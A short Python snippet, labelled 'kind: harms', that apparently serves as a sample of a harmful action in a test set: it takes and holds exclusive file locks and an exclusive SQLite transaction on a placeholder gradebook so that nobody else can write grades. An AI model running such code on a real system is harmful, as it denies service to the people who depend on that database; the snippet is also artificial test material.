# where: first
# kind: harms
# does: Locks on the gradebook are taken and held, so that nobody else can write a grade.
import fcntl
import sqlite3

held = []
try:
    file = open("@GRADEBOOK@", "r+b")
    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    held.append(file)
    book = sqlite3.connect("@GRADEBOOK@", isolation_level=None)
    book.execute("BEGIN EXCLUSIVE")
    held.append(book)
except Exception as error:
    print(error)
